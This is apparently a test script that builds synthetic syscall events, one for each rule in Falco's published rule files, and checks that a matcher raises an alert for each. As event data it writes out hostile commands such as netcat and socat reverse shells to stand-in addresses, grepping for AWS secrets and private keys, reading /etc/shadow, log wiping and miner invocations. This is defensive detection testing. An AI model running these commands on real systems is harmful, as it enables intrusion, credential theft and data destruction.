#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""A stream in which every rule of Falco's three published files finds its deed.

usage: fires.py MATCH RULES-FILE...	where /etc/hosts says what --hosts prints
       fires.py --hosts			addresses of names that two rules ask for

Each event stands for one rule and has only fields that capture and enrich put
into events. secmon-match gets them all at once; a rule that raises no alert on
its own event is named. Exit status 0 if every rule was raised.

Two rules hold in no event as they are published: one asks a list that is empty,
one a macro that allows every container. The files ask the site to fill them in;
that is what SITE does, in a second run.
"""
import os
import re
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
import stream

READ, WRITE, RDWR, CREAT, TRUNC = 1, 2, 3, 4, 256	# open flags in the coding of events
S_IXUSR, S_ISUID = 0o100, 0o4000
NOW = 1_700_000_000_000_000_000
HOSTS = [("203.0.113.10", "kubernetes.default.svc.cluster.local"), ("203.0.113.20", "ca.minexmr.com")]

SITE = """
- list: namespace_scope_network_only_subnet
  items: [default]
  override: {items: append}
- macro: allowed_containers
  condition: (container.image.repository = docker.io/library/redis)
"""
NEEDS_SITE = {"Network Connection outside Local Subnet", "Launch Disallowed Container"}

CAPS = 0xa80425fb				# of an ordinary container
CAP_SYS_MODULE, CAP_SYS_ADMIN = 1 << 16, 1 << 21

HOST = {"container.id": "host", "container.name": "host", "container.type": "host"}
POD = {
    "container.id": "3ad7b26ded6d", "container.name": "web", "container.type": "containerd",
    "container.image": "docker.io/library/debian:12", "container.image.repository": "docker.io/library/debian",
    "container.image.tag": "12", "container.privileged": False, "k8s.ns.name": "default", "k8s.pod.name": "web-0",
    "proc.pidns": 4026532500, "proc.mntns": 4026532498, "proc.vpid": 23, "proc.aname": ["sh", "containerd-shim", "systemd"],
    "thread.cap_permitted": CAPS, "thread.cap_effective": CAPS,
}
PRIVILEGED = {**POD, "container.privileged": True, "thread.cap_permitted": (1 << 41) - 1,
              "thread.cap_effective": (1 << 41) - 1}
ENTRY = {"proc.vpid": 1, "proc.aname": ["containerd-shim", "systemd"]}
USER = {"user.uid": 1000, "user.ruid": 1000, "user.name": "anna", "user.loginuid": 1000,
        "thread.cap_permitted": 0, "thread.cap_effective": 0}


def process(line, where, more):
    exe, *args = line.split(" ") if isinstance(line, str) else line
    pid = 4711
    p = {
        "evt.rawtime": NOW, "evt.cpu": 0, "evt.rawres": 0, "thread.tid": pid, "proc.pid": pid,
        "proc.pid.ts": NOW - 1_000_000_000, "proc.ppid": 4000, "proc.ppid.ts": NOW - 9_000_000_000, "proc.vpid": pid,
        "proc.name": os.path.basename(exe)[:15], "proc.exe": exe, "proc.args": args,
        "proc.exepath": exe if exe.startswith("/") else "/usr/bin/" + os.path.basename(exe), "proc.cwd": "/srv/",
        "proc.tty": 0, "proc.sid": 4000, "proc.pgid": pid, "proc.vpgid": pid, "proc.pidns": 4026531836,
        "proc.mntns": 4026531832, "user.uid": 0, "user.ruid": 0, "user.name": "root", "group.gid": 0,
        "group.name": "root", "thread.cap_permitted": (1 << 41) - 1, "thread.cap_effective": (1 << 41) - 1,
        "proc.is_exe_upper_layer": False, "proc.is_exe_from_memfd": False, "proc.aname": ["sh", "systemd"],
    }
    p.update(where)
    p.update(more)
    return p


def spawn(line, where=HOST, **more):
    return "execve", process(line, where, named(more))


def named(more):
    """proc__aname: a field's name as Python can spell it."""
    return {k.replace("__", "."): v for k, v in more.items()}


def opened(path, flags, line, where=HOST, **more):
    e = process(line, where, {"evt.rawres": 5, "fd.num": 5, "fd.typechar": "f", "fd.name": path, "fd.nameraw": path,
                              "evt.arg.dirfd": -100, "evt.arg.name": path, "evt.arg.flags": flags, "evt.arg.mode": 0})
    e.update(named(more))
    return "openat", e


def ip(text):
    return {"hex": bytes(int(n) for n in text.split(".")).hex()}


def sock(call, line, client, server, where=HOST, proto="tcp", serves=False, **more):
    (cip, cport), (sip, sport) = client, server
    local, remote = (server, client) if serves else (client, server)
    e = process(line, where, {
        "fd.num": 7, "fd.typechar": "4", "fd.sockfamily": "ip", "fd.l4proto": proto,
        "fd.name": f"{cip}:{cport}->{sip}:{sport}", "fd.cip": ip(cip), "fd.cport": cport, "fd.sip": ip(sip),
        "fd.sport": sport, "fd.lip": ip(local[0]), "fd.lport": local[1], "fd.rip": ip(remote[0]),
        "fd.rport": remote[1], "fd.is_server": serves, "fd.connected": proto == "tcp"})
    e.update(named(more))
    return call, e


def call(type_, line, where=HOST, **more):
    return type_, process(line, where, named(more))


US, WORLD = ("10.1.2.3", 41000), ("198.51.100.7", 443)
FROM = ("198.51.100.9", 52000)
METADATA = ("169.254.169.254", 80)
BACKDOOR = ("10.1.2.3", 31337)
WEB = ["nginx", "systemd"]

DEEDS = [
    # falco_rules.yaml
    ("Directory traversal monitored file read",
     opened("/etc/passwd", READ, "httpd", fd__nameraw="/var/www/../../etc/passwd", proc__aname=["systemd"])),
    ("Read sensitive file trusted after startup",
     opened("/etc/shadow", READ, "nginx", proc__pid__ts=NOW - 60_000_000_000)),
    ("Read sensitive file untrusted", opened("/etc/shadow", READ, "cat /etc/shadow", **USER)),
    ("Run shell untrusted", spawn("/bin/sh -c id", proc__aname=["mysqld", "systemd"])),
    ("System user interactive", spawn("id", user__name="mail", user__uid=8, proc__aname=["bash", "sshd", "systemd"])),
    ("Terminal shell in container", spawn("bash", {**POD, "proc.aname": ["runc"], "proc.tty": 34816})),
    ("Contact K8S API Server From Container", sock("connect", "curl -k https://k", US, (HOSTS[0][0], 443), POD)),
    ("Netcat Remote Code Execution in Container", spawn("nc -e /bin/sh 198.51.100.7 443", POD)),
    ("Search Private Keys or Passwords", spawn(["grep", "-r", "BEGIN RSA PRIVATE", "/"])),
    ("Clear Log Activities", opened("/var/log/auth.log", WRITE | TRUNC, "truncate -s0 /var/log/auth.log")),
    ("Remove Bulk Data from Disk", spawn("shred -u /srv/data")),
    ("Create Symlink Over Sensitive Files",
     call("symlinkat", "ln -s /etc/shadow x", evt__arg__target="/etc/shadow", evt__arg__linkpath="x",
          evt__arg__linkdirfd=-100)),
    ("Create Hardlink Over Sensitive Files",
     call("linkat", "ln /etc/shadow /tmp/x", evt__arg__oldpath="/etc/shadow", evt__arg__newpath="/tmp/x")),
    ("Packet socket created in container",
     call("socket", "arping 10.0.0.1", POD, evt__rawres=3, evt__arg__domain=17, evt__arg__type=3, evt__arg__proto=768)),
    ("Redirect STDOUT/STDIN to Network Connection in Container",
     sock("dup2", "python3 -", US, WORLD, POD, evt__rawres=1, evt__arg__oldfd=7, evt__arg__newfd=1)),
    ("Linux Kernel Module Injection Detected",
     call("finit_module", "insmod x.ko", {**POD, "thread.cap_effective": CAPS | CAP_SYS_MODULE}, fd__num=3,
          fd__typechar="f", fd__name="/x.ko")),
    ("Debugfs Launched in Privileged Container", spawn("debugfs /dev/sda1", PRIVILEGED)),
    ("Detect release_agent File Container Escapes",
     opened("/tmp/cg/release_agent", WRITE, "sh", {**POD, "thread.cap_effective": CAPS | CAP_SYS_ADMIN})),
    ("PTRACE attached to process", call("ptrace", "gdb -p 1", evt__arg__request=11, evt__arg__pid=1)),
    ("PTRACE anti-debug attempt", call("ptrace", "./packed", evt__arg__request=1)),
    ("Find AWS Credentials", spawn("grep -r aws_secret_access_key /home")),
    ("Execution from /dev/shm", spawn("/dev/shm/x")),
    ("Drop and execute new binary in container", spawn("/tmp/x", POD, proc__is_exe_upper_layer=True)),
    ("Disallowed SSH Connection Non Standard Port", sock("connect", "/usr/bin/ssh -p 443 x", US, WORLD)),
    ("Fileless execution via memfd_create", spawn("x", proc__exepath="memfd:x", proc__is_exe_from_memfd=True)),

    # falco-incubating_rules.yaml
    ("Modify Shell Configuration File", opened("/home/anna/.bashrc", WRITE, "tee -a /home/anna/.bashrc")),
    ("Schedule Cron Jobs", spawn("crontab -")),
    ("Read ssh information", opened("/root/.ssh/id_ed25519", READ, "cp -r /root/.ssh /tmp")),
    ("DB program spawned process", spawn("id", proc__aname=["postgres", "systemd"])),
    ("Change thread namespace", call("setns", "nsenter -t 1 -m", POD, evt__arg__nstype=0)),
    ("Change namespace privileges via unshare", call("unshare", "unshare -r", POD, evt__arg__flags=0)),
    ("Launch Privileged Container", spawn("sh", {**PRIVILEGED, **ENTRY})),
    ("Launch Excessively Capable Container",
     spawn("sh", {**POD, **ENTRY, "thread.cap_permitted": CAPS | CAP_SYS_ADMIN})),
    ("System procs network activity", sock("connect", "bash", US, WORLD)),
    ("Program run with disallowed http proxy env", spawn("curl x", proc__env=["HTTP_PROXY=http://198.51.100.7"])),
    ("Unexpected UDP Traffic", sock("connect", "x", US, ("198.51.100.7", 4444), proto="udp")),
    ("Non sudo setuid", call("setuid", "x", **USER, evt__arg__uid=0)),
    ("User mgmt binaries", spawn("useradd eve", proc__aname=["bash", "sshd"])),
    ("Create files below dev", opened("/dev/x", WRITE | CREAT, "touch /dev/x")),
    ("Contact EC2 Instance Metadata Service From Container", sock("connect", "curl x", US, METADATA, POD)),
    ("Contact cloud metadata service from container",
     sock("sendto", "x", US, METADATA, POD, proto="udp")),
    ("Launch Package Management Process in Container", spawn("apt-get install nmap", POD)),
    ("Launch Suspicious Network Tool in Container", spawn("nmap 10.0.0.0/8", POD)),
    ("Launch Suspicious Network Tool on Host", spawn("tcpdump -i any", **{"proc__aname": ["bash"]})),
    ("Delete or rename shell history",
     call("unlinkat", "rm /root/.bash_history", evt__arg__dirfd=-100, evt__arg__name="/root/.bash_history")),
    ("Set Setuid or Setgid bit",
     call("fchmodat", "chmod u+s x", evt__arg__dirfd=-100, evt__arg__filename="/tmp/x", evt__arg__mode=0o4755)),
    ("Launch Remote File Copy Tools in Container", spawn("scp x anna@y:", POD)),
    ("Network Connection outside Local Subnet", sock("connect", "wget x", US, WORLD, POD)),
    ("Mount Launched in Privileged Container", spawn("mount /dev/sda1 /mnt", PRIVILEGED)),
    ("Launch Ingress Remote File Copy Tools in Container", spawn("wget http://198.51.100.7/x", POD)),
    ("Read environment variable from /proc files", opened("/proc/1/environ", READ, "cat /proc/1/environ", POD)),
    ("Exfiltrating Artifacts via Kubernetes Control Plane",
     opened("/home/secrets.txt", READ, "tar cf - /home", {**POD, "proc.aname": ["runc"]})),
    ("Adding ssh keys to authorized_keys", opened("/home/anna/.ssh/authorized_keys", WRITE, "tee -a x")),
    ("Potential Local Privilege Escalation via Environment Variables Misuse",
     spawn("su", proc__env=["LANG=C", "GLIBC_TUNABLES=glibc.malloc.mxfast=x"])),
    ("Backdoored library loaded into SSHD (CVE-2024-3094)",
     opened("/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1", READ, "/usr/sbin/sshd -D")),
    ("BPF Program Not Profiled", call("bpf", "x", evt__rawres=4, evt__arg__cmd=5)),

    # falco-sandbox_rules.yaml
    ("Unexpected inbound connection source", sock("accept4", "x", FROM, BACKDOOR, serves=True)),
    ("Read Shell Configuration File", opened("/root/.bashrc", READ, "cat /root/.bashrc")),
    ("Update Package Repository", opened("/etc/apt/sources.list.d/x.list", WRITE | CREAT, "tee x")),
    ("Write below binary dir", opened("/usr/bin/x", WRITE | CREAT, "cp x /usr/bin/x")),
    ("Write below monitored dir", opened("/usr/local/bin/x", WRITE | CREAT, "cp x /usr/local/bin/x")),
    ("Write below etc", opened("/etc/ld.so.preload", WRITE | CREAT, "tee /etc/ld.so.preload")),
    ("Write below root", opened("/root/x", WRITE | CREAT, "cp x /root")),
    ("Write below rpm database", opened("/var/lib/rpm/Packages", WRITE, "vi x")),
    ("Modify binary dirs",
     call("renameat2", "mv x /usr/bin", evt__arg__oldpath="/usr/bin/ls", evt__arg__newpath="/usr/bin/.ls",
          evt__arg__olddirfd=-100, evt__arg__newdirfd=-100)),
    ("Mkdir binary dirs", call("mkdir", "mkdir /usr/bin/x", evt__arg__path="/usr/bin/x", evt__arg__mode=0o755)),
    ("Launch Sensitive Mount Container",
     spawn("sh", {**POD, **ENTRY, "container.mounts": ["/var/run/docker.sock:/var/run/docker.sock:rw:true:rprivate"]})),
    ("Launch Disallowed Container", spawn("sh", {**POD, **ENTRY})),
    ("Interpreted procs inbound network activity", sock("accept4", "python3 x.py", FROM, BACKDOOR, serves=True)),
    ("Interpreted procs outbound network activity", sock("connect", "python3 x.py", US, WORLD)),
    ("Unexpected K8s NodePort Connection", sock("connect", "x", US, ("10.9.9.9", 31000), POD)),
    ("Create Hidden Files or Directories",
     opened("/tmp/.x", WRITE | CREAT, "touch /tmp/.x")),
    ("Detect outbound connections to common miner pool ports", sock("connect", "x", US, (HOSTS[1][0], 443))),
    ("Detect crypto miners using the Stratum protocol", spawn("x -o stratum+tcp://198.51.100.7:3333")),
    ("Kubernetes Client Tool Launched in Container", spawn("kubectl get secrets", POD)),
    ("Container Drift Detected (chmod)",
     call("fchmodat", "chmod +x x", POD, evt__arg__dirfd=-100, evt__arg__filename="/tmp/x", evt__arg__mode=S_IXUSR)),
    ("Container Drift Detected (open+create)",
     opened("/tmp/x", WRITE | CREAT, "curl x", POD, evt__arg__mode=0o755)),
    ("Container Run as Root User", spawn("sh", {**POD, **ENTRY})),
    ("Sudo Potential Privilege Escalation", spawn(["sudoedit", "-s", "AAAA\\"], **USER)),
    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process",
     call("userfaultfd", "x", **USER, evt__rawres=3, evt__arg__flags=0)),
    ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", spawn(["pkexec"], **USER)),
    ("Java Process Class File Download",
     sock("recvfrom", "/opt/jdk/bin/java -jar x", US, WORLD, evt__rawres=8,
          evt__buffer={"hex": "cafebabe00000034"})),
    ("Modify Container Entrypoint", opened("/proc/self/exe", WRITE, "x", POD)),
    ("Decoding Payload in Container", spawn(["sh", "-c", "base64 -d x"], POD)),
    ("Basic Interactive Reconnaissance", spawn("whoami", proc__tty=34816)),
    ("Netcat/Socat Remote Code Execution on Host", spawn("socat TCP:198.51.100.7:443 EXEC:sh")),
    ("Network Tool Executed During NPM Package Install",
     spawn("nc 198.51.100.7 443", {**POD, "proc.aname": ["sh", "node", "npm", "sh"]})),
    ("Known Cryptominer Process Executed", spawn("xmrig -o x")),
    ("Web Server Spawned Shell", spawn("bash -c id", proc__aname=WEB)),
    ("Web Server Spawned Suspicious Child Process", spawn("whoami", proc__aname=WEB)),
    ("Reverse Shell from Web Server", spawn("bash -i", proc__aname=WEB)),
    ("Privileged Container Device Access", opened("/dev/sda1", READ, "dd if=/dev/sda1", PRIVILEGED)),
    ("Container Access to Host Sensitive Paths", opened("/host/etc/passwd", READ, "cat x", POD)),
]


def travelling():
    """The fields that capture and enrich put into events."""
    return {n for n, by in stream.table("fields.def", r'^FIELD\(\s*\d+,\s*\w+,\s*"([^"]+)", \w+, (\w+)')
            if by in ("CAPTURE", "ENRICH")}


def make(deeds):
    out = stream.hello({})
    fields = travelling()
    for num, (_, (type_, e)) in enumerate(deeds, 1):
        e = {"evt.num": num, **{k.replace("__", "."): v for k, v in e.items()}}
        for name in e:
            if name not in fields and not name.startswith("evt.arg."):
                sys.exit(f"fires.py: '{name}' does not travel in events")
        out += stream.event(2, type_, e)
    return out + stream.make("end")


def silent(program, rules, deeds):
    """The rules that raised no alert on their own event."""
    p = subprocess.run([program, "--dns", "--enable-rule", "*", "--rule-matching", "all", "-r", *rules],
                       input=make(deeds), stdout=subprocess.PIPE, check=True)
    with tempfile.TemporaryFile() as f:
        f.write(p.stdout)
        f.seek(0)
        raised = {(o.get("rule.name"), o["evt.num"]) for o in
                  (stream.named(k, v) for k, v in stream.objects(f)) if o["kind"] == "ALERT"}
    return {name for num, (name, _) in enumerate(deeds, 1) if (name, num) not in raised}


def main():
    if sys.argv[1:] == ["--hosts"]:
        for address, name in HOSTS:
            print(address, name)
        return
    program, *rules = sys.argv[1:]
    names = re.findall(r"^- rule: *(.+?) *$", "".join(open(r).read() for r in rules), re.M)
    untried = set(names) - {name for name, _ in DEEDS}
    quiet = silent(program, rules, DEEDS)
    with tempfile.NamedTemporaryFile("w", suffix=".yaml") as site:
        site.write(SITE)
        site.flush()
        os.chmod(site.name, 0o644)
        quiet_here = silent(program, [*rules, site.name], DEEDS)
    for name in sorted(untried):
        print(f"no deed for '{name}'")
    for name in sorted(quiet - NEEDS_SITE):
        print(f"not raised: '{name}'")
    for name in sorted(NEEDS_SITE - quiet):
        print(f"raised by the published files alone: '{name}'")
    for name in sorted(quiet_here):
        print(f"not raised with the site's own words: '{name}'")
    print(f"{len(names)} rules: {len(DEEDS) - len(quiet)} raised as published, "
          f"{len(quiet - quiet_here)} more with what they ask the site to fill in")
    sys.exit(1 if untried or quiet != NEEDS_SITE or quiet_here else 0)


if __name__ == "__main__":
    main()
